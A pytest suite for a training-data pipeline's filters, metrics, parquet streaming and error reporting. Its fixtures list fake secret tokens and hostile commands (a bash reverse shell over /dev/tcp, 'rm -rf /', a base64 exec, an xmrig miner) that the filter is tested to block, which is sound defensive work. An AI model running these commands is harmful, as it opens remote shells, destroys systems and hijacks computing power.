"""What is left out of the training data, what is told about the rest, and rows and files that nobody can read."""

import json
import re
from pathlib import Path
from typing import Any

import pyarrow
import pyarrow.parquet
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trainer import data, tasks
from trainer.__main__ import main
from trainer.data import parquet
from trainer.data.quality import LANGUAGES_MAX, DataReport, Quality, blocked, statistics
from trainer.data.stream import ParquetStream
from trainer.errors import UserError
from trainer.tasks import formats, is_held_out
from trainer.tasks.rows import LINE_BYTES_MAX, read

SUM = {"question": "Ann has 2 and gets 3. How many?", "answer": "2+3=5\n#### 5"}
DIRTY = {
    "secrets": (
        b"-----BEGIN RSA PRIVATE KEY-----\n" + b"MIIEowIBAAKCAQEA" * 4,
        b"key = 'AKIA" + b"ABCDEFGH12345678" + b"'",
        b"token: ghp_" + b"a1B2" * 9,
        b"xoxb-1234-" + b"0123456789ab",
        b"OPENAI=sk-proj-" + b"x9Y8" * 10,
    ),
    "malicious": (
        b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        b"rm -rf / --no-preserve-root",
        b"exec(base64.b64decode('aW1wb3J0'))",
        b"xmrig -o stratum+tcp://pool.example.org:3333",
    ),
    "license": (b"// SPDX-License-Identifier: GPL-2.0-only\nint x;", b"# spdx-license-identifier: AGPL-3.0"[:2] + b" "
                b"SPDX-License-Identifier: AGPL-3.0-or-later"),
}  # fmt: skip
CLEAN = (
    b"A private key is written between -----BEGIN PRIVATE KEY----- and its end.",
    b"# SPDX-License-Identifier: Apache-2.0",
    b"disk-0123456789abcdef0123456789abcdef0 is the task-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    b"import base64; base64.b64decode(text)",
    b"The device /dev/tcp is a feature of bash.",
)


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in DIRTY.items() for text in texts])
def test_text_with_an_unmistakable_mark_is_blocked_by_kind(kind: str, text: bytes) -> None:
    assert blocked(b"def f():\n    pass\n" + text + b"\n") == kind


@pytest.mark.parametrize("text", CLEAN)
def test_text_that_only_speaks_of_such_things_passes(text: bytes) -> None:
    assert blocked(text) is None


def test_a_licence_that_the_source_states_counts_as_well() -> None:
    assert blocked(b"x", "GPL-3.0") == "license"
    assert blocked(b"x", "mit") is None


def test_the_third_documents_data_numbers_are_exact_on_ten_samples() -> None:
    quality = Quality()
    for number in range(6):
        assert quality.keep(b"ab\xc3\xa9d" if number else b"abcdefghij", "python" if number < 4 else "rust", number)
    for kind, count in (("secrets", 2), ("malicious", 1), ("license", 1)):
        for text in DIRTY[kind][:count]:
            assert not quality.keep(text, "python", 9.0)
    assert quality.metrics() == {
        "data/total_samples": 10,
        "data/avg_quality_score": 2.5,
        "data/avg_code_length": (10 + 5 * 4) / 6,
        "data/language_python": 4,
        "data/language_rust": 2,
        "data/language_python_percent": pytest.approx(200 / 3),
        "data/language_rust_percent": pytest.approx(100 / 3),
        "data/blocked_malicious": 1,
        "data/blocked_secrets": 2,
        "data/blocked_license": 1,
        "data/blocked_total": 4,
        "data/pass_rate": 60.0,
    }


def test_what_is_not_known_about_the_data_is_absent() -> None:
    quality = Quality(screen=False)
    assert quality.metrics() == {"data/total_samples": 0}
    assert quality.keep(DIRTY["secrets"][0])
    assert set(quality.metrics()) == {"data/total_samples", "data/avg_code_length", "data/pass_rate"}


def test_more_languages_than_a_chart_can_show_are_summed_up() -> None:
    quality = Quality()
    for number in range(LANGUAGES_MAX + 5):
        quality.keep(b"x", f"l{number}")
    found = quality.metrics()
    assert found["data/language_other"] == 5
    shares = [value for name, value in found.items() if name.endswith("_percent")]
    assert len(shares) == LANGUAGES_MAX + 1
    assert sum(shares) == pytest.approx(100)


def test_dataset_statistics_are_the_third_documents() -> None:
    assert statistics([3, 5, 10], 3, 2) == {
        "dataset/train_size": 3, "dataset/eval_size": 2, "dataset/total_size": 5, "dataset/train_eval_ratio": 1.5,
        "dataset/avg_tokens_per_sample": 6, "dataset/min_tokens": 3, "dataset/max_tokens": 10,
    }  # fmt: skip
    assert "dataset/train_eval_ratio" not in statistics([1], 1, 0)


def shard(path: Path, texts: list[Any], **columns: list[Any]) -> Path:
    pyarrow.parquet.write_table(pyarrow.table({"text": texts, **columns}), path, row_group_size=4)
    return path


def test_all_of_them_arrive_with_the_run_when_the_data_are_prepared(trained, tmp_path: Path) -> None:
    secret = DIRTY["secrets"][1].decode()
    rows = [f"row {n} " * 30 if n % 4 else secret for n in range(40)]
    shard(tmp_path / "code.parquet", rows, language=["python"] * 20 + ["go"] * 20, score=[0.5] * 40)
    run = trained("pretrain", data=str(tmp_path), steps=1)
    told = {name: value for step, metrics in run.logs if step == 0 for name, value in metrics.items()}
    assert told["data/total_samples"] == 40
    assert (told["data/blocked_secrets"], told["data/blocked_total"], told["data/pass_rate"]) == (10, 10, 75.0)
    assert (told["data/language_python"], told["data/language_go_percent"]) == (15, 50.0)
    assert told["data/avg_quality_score"] == 0.5
    assert told["dataset/total_size"] == told["dataset/train_size"] + told["dataset/eval_size"]


def test_a_folder_of_sources_says_its_languages(tmp_path: Path) -> None:
    for name in ("a.py", "b.py", "c.rs", "d.unknown"):
        (tmp_path / name).write_text("text")
    quality = Quality()
    data.load(data.locate(str(tmp_path)), bytes_max=100, val_fraction=0.3, report=DataReport(quality=quality))
    assert quality.languages == {"python": 2, "rust": 1}


def test_a_stream_leaves_out_what_is_blocked_and_goes_on_where_it_stood(tmp_path: Path) -> None:
    dirty = DIRTY["malicious"][0].decode()
    shards = [shard(tmp_path / f"{n}.parquet", [f"{n}{i} " * 9 if i % 3 else dirty for i in range(16)]) for n in (1, 2)]
    loader = ParquetStream(shards, name="s", seq_len=8, batch_size=2)
    seen = [loader.next_batch().inputs for _ in range(9)]
    assert b"/dev/tcp" not in bytes(int(t) for batch in seen for t in batch.flatten() if t < 256)
    restored = ParquetStream(shards, name="s", seq_len=8, batch_size=2)
    restored.load_state(loader.state())
    assert restored.next_batch().inputs.equal(loader.next_batch().inputs)
    assert b"/dev/tcp" in b"".join(parquet.group_texts(shards[0], 0, DataReport(), Quality(screen=False)))


def test_a_stream_without_any_text_ends_in_one_line_and_not_in_a_loop(tmp_path: Path) -> None:
    shards = [shard(tmp_path / f"{n}.parquet", pyarrow.array([None, ""] * 4, pyarrow.string())) for n in (1, 2)]
    with pytest.raises(UserError, match="no text that may be trained on"):
        ParquetStream(shards, name="s", seq_len=8, batch_size=2).next_batch()


def test_rows_that_are_blocked_do_not_reach_a_task(tmp_path: Path) -> None:
    dirty = {"question": DIRTY["secrets"][2].decode(), "answer": "#### 1"}
    (tmp_path / "gsm8k.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in [SUM] * 8 + [dirty] * 2))
    problems = DataReport()
    [task] = tasks.load("ppo", str(tmp_path), None, problems, 0.25)
    assert (len(task.train), len(task.val)) == (6, 2)
    assert problems.quality.metrics()["data/blocked_secrets"] == 2
    assert problems.count == 0


# -- what cannot be read -----------------------------------------------------------------------------------------------


def test_every_kind_of_bad_line_is_counted_with_its_place_and_reason(tmp_path: Path) -> None:
    path = tmp_path / "gsm8k.jsonl"
    good = json.dumps(SUM).encode()
    lines = [
        good, b"\xff\xfe{}", b'{"question": "cut of', b"[" * 100_000, b'"text"', b'{"question": "?"}', b"{}" * 9,
        b'{"question": "' + b"x" * LINE_BYTES_MAX + b'"}', good,
    ]  # fmt: skip
    path.write_bytes(b"\n".join(lines))
    problems, reasons = DataReport(), []
    problems.add = lambda where, reason: reasons.append(f"{where}: {reason}")  # type: ignore[method-assign]
    assert len(read([path], formats.gsm8k, problems)) == 2
    assert reasons == [
        "gsm8k.jsonl:2: not UTF-8", "gsm8k.jsonl:3: not JSON", "gsm8k.jsonl:4: not JSON",
        "gsm8k.jsonl:5: not an object", "gsm8k.jsonl:6: no field 'answer'", "gsm8k.jsonl:7: not JSON",
        "gsm8k.jsonl:8: longer than 16 MiB",
    ]  # fmt: skip


def broken_parquet(folder: Path) -> None:
    whole = shard(folder / "gsm8k.parquet", ["x"] * 50)
    whole.write_bytes(whole.read_bytes()[:-30])


def numbers_for_text(folder: Path) -> None:
    shard(folder / "texts.parquet", [1, 2, 3])


def lists_for_text(folder: Path) -> None:
    shard(folder / "texts.parquet", [["one", "two"], ["three"]])


def not_utf_8(folder: Path) -> None:
    texts = pyarrow.array([b"\xff\xfe text"] * 9).view(pyarrow.string())
    pyarrow.parquet.write_table(pyarrow.table({"text": texts}), folder / "texts.parquet")


def broken_pages(folder: Path) -> None:
    """The footer is whole, what it points to is not."""
    for name in ("1", "2"):
        path = shard(folder / f"{name}.parquet", [f"{n} " * 400 for n in range(40)])
    damaged = bytearray(path.read_bytes())
    damaged[4 : len(damaged) // 2] = bytes(len(damaged) // 2 - 4)
    path.write_bytes(damaged)


def other_columns(folder: Path) -> None:
    pyarrow.parquet.write_table(
        pyarrow.table({"instruction": ["a"] * 9, "output": ["b"] * 9}), folder / "gsm8k.parquet"
    )


def corrupt_line(folder: Path) -> None:
    (folder / "gsm8k.jsonl").write_text(f"{json.dumps(SUM)}\n{{half\n")


def one_row(folder: Path) -> None:
    (folder / "gsm8k.jsonl").write_text(json.dumps(SUM))


def empty_validation(folder: Path) -> None:
    (folder / "gsm8k").mkdir()
    (folder / "gsm8k" / "train.jsonl").write_text(json.dumps(SUM))
    (folder / "gsm8k" / "test.jsonl").touch()


@pytest.mark.parametrize(
    ("make", "words", "cause"),
    [
        (broken_parquet, "ppo --data {}", "gsm8k.parquet: cannot be read: "),
        (numbers_for_text, "pretrain --data {}", "column 'text' .* is of int64"),
        (lists_for_text, "pretrain --data {}", "column 'text' .* is of list<element: string>"),
        (not_utf_8, "pretrain --data {}", r"too few .*skipped 9 bad row\(s\): texts.parquet:1: not UTF-8"),
        (not_utf_8, "pretrain --data {} --bad_rows refuse", "texts.parquet:1: not UTF-8"),
        (broken_pages, "pretrain --data {}", r"2.parquet leaves the validation split empty; skipped 40 bad row\(s\)"),
        (other_columns, "ppo --data {}", "no row is of the format 'gsm8k': gsm8k.parquet:3: no field 'answer'"),
        (corrupt_line, "ppo --data {} --bad_rows refuse", "gsm8k.jsonl:2: not JSON"),
        (one_row, "ppo --data {}", "has 1 usable"),
        (empty_validation, "ppo --data {}", "leaves the validation split empty"),
        (lambda folder: None, "ppo --data {}/missing", "no folder .*missing"),
        (lambda folder: None, "pretrain --data {}/missing", "no such file or folder"),
        (lambda folder: None, "sft --data_config {}/missing.yaml", "cannot read .*missing.yaml"),
    ],
)
def test_bad_data_is_two_lines_with_exit_code_2_and_leaves_nothing_behind(
    make: Any, words: str, cause: str, tmp_path: Path, capsys, monkeypatch
) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    make(folder)
    out = tmp_path / "out"
    monkeypatch.setenv("SIDECAR_ENDPOINT", f"ipc://{tmp_path}/nobody")
    assert main([*words.format(folder).split(), "--threads", "1", "--out", str(out)]) == 2
    first, second = capsys.readouterr().err.splitlines()
    assert first.startswith("trainer: ")
    assert re.search(cause, first), first
    assert second.startswith("  try: ")
    assert not out.exists()


def test_a_context_that_is_too_short_for_the_data_is_mentioned(trained, tmp_path: Path, capsys) -> None:
    def talk(question: int, reply: int) -> str:
        said = ("user", "q" * question), ("assistant", "r" * reply)
        return json.dumps({"messages": [{"role": role, "content": text} for role, text in said]}) + "\n"

    (tmp_path / "smoltalk.jsonl").write_text(talk(9, 9) * 30 + talk(9, 300) * 6 + talk(300, 9) * 4)
    flags = {"data": str(tmp_path), "steps": 1, "quiet": False, "val_fraction": 0.5}
    trained("sft", **flags, seq_len=64)
    assert "10 of 20 conversations are cut to 64 tokens, 4 of them left out" in capsys.readouterr().out
    trained("sft", **flags, seq_len=512)
    assert "are cut" not in capsys.readouterr().out


def test_prepared_tokens_that_are_damaged_are_prepared_again(trained, tmp_path: Path) -> None:
    flags = {"use_prepared": True, "prepared": str(tmp_path), "steps": 1}
    first = trained("sft", **flags)
    [file] = tmp_path.iterdir()
    file.write_bytes(file.read_bytes()[:1000])
    assert trained("sft", **flags).losses == first.losses
    assert file.stat().st_size > 1000


@pytest.mark.parametrize(
    ("path", "held_out"),
    [
        ("test-00000-of-00001.parquet", True),
        ("ARC-Easy-Dev.jsonl", True),
        ("all/validation-00000-of-00001.parquet", True),
        ("data/test_prefs-00000-of-00001.parquet", True),
        ("train-00000-of-00001.parquet", False),
        ("latest.jsonl", False),
        ("intervals/train.jsonl", False),
    ],
)
def test_only_whole_words_of_a_name_hold_a_file_back(path: str, held_out: bool) -> None:
    assert is_held_out(path) == held_out


@pytest.mark.parametrize(
    ("row", "cause"),
    [
        ("{name: a, format: arc}", "no key 'path'"),
        ("{name: 7, format: arc, path: a}", "name is 7, which is no str"),
        ("{name: a, format: arc, path: a, stop: many}", "stop is 'many', which is no int"),
        ("{name: a, format: arc, path: a, stop: 0}", "not above zero"),
        ("{name: a, format: arc, path: a}\n  - {name: a, format: arc, path: b}", "two datasets 'a'"),
        ("{name: a, format: arc, path: a", "while parsing"),
    ],
)
def test_what_is_wrong_with_a_data_config_is_said_in_one_line(row: str, cause: str, tmp_path: Path) -> None:
    file = tmp_path / "data.yaml"
    file.write_text(f"datasets:\n  - {row}\n")
    with pytest.raises(UserError, match=cause) as caught:
        tasks.load("sft", None, str(file), DataReport(), 0.2)
    assert "\n" not in caught.value.cause


def test_a_data_config_is_the_same_in_yaml_toml_and_json(tmp_path: Path) -> None:
    (tmp_path / "sums.jsonl").write_text(f"{json.dumps(SUM)}\n" * 10)
    row = {"name": "sums", "format": "gsm8k", "path": "*.jsonl", "stop": 5}
    (tmp_path / "d.json").write_text(json.dumps({"datasets": [row]}))
    (tmp_path / "d.yaml").write_text("datasets:\n- name: sums\n  format: gsm8k\n  path: '*.jsonl'\n  stop: 5\n")
    (tmp_path / "d.toml").write_text('[[datasets]]\nname = "sums"\nformat = "gsm8k"\npath = "*.jsonl"\nstop = 5\n')
    loaded = [
        tasks.load("ppo", None, str(tmp_path / f"d.{kind}"), DataReport(), 0.2) for kind in ("json", "yaml", "toml")
    ]
    assert loaded[0] == loaded[1] == loaded[2]
    assert (len(loaded[0][0].train), len(loaded[0][0].val)) == (4, 1)


SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5)
JSON = st.recursive(
    SCALARS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3)
)
TALK = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello"}]
GOOD: dict[str, dict[str, Any]] = {
    "smoltalk": {"messages": TALK, "language": "en", "score": 1.5, "license": "mit"},
    "mmlu": {"question": "?", "choices": ["a", "b", "c", "d"], "answer": 1},
    "arc": {"question": "?", "choices": {"text": ["a", "b"], "label": ["A", "B"]}, "answerKey": "B"},
    "gsm8k": SUM,
    "preference": {"prompt": "Hi", "chosen": TALK, "rejected": [*TALK[:1], {**TALK[1], "content": "Go away"}]},
    "prompts": {"prompt": TALK[:1], "answer": 5},
    "humaneval": dict.fromkeys(("prompt", "canonical_solution", "test", "entry_point"), "x"),
}


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Of everything in there."""
    keys = value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    return [path, *(place for key in keys for place in places(value[key], (*path, key)))]


@pytest.mark.parametrize("name", formats.FORMATS)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_no_row_whatsoever_ends_the_reading(name: str, data: st.DataObject, tmp_path: Path) -> None:
    """A good row, anything in it replaced by anything."""
    row = json.loads(json.dumps(GOOD[name]))
    *path, last = data.draw(st.sampled_from(places(row)[1:]))
    inner: Any = row
    for key in path:
        inner = inner[key]
    inner[last] = data.draw(JSON)
    file = tmp_path / "rows.jsonl"
    file.write_text(json.dumps(row) + "\n")
    problems = DataReport()
    understood = read([file], formats.FORMATS[name], problems)
    assert len(understood) + problems.count + problems.quality.blocked.total() == 1
    for example in understood:
        assert isinstance(example.text(), str)


@pytest.mark.parametrize("name", formats.FORMATS)
def test_the_good_rows_are_good(name: str) -> None:
    formats.FORMATS[name](GOOD[name])
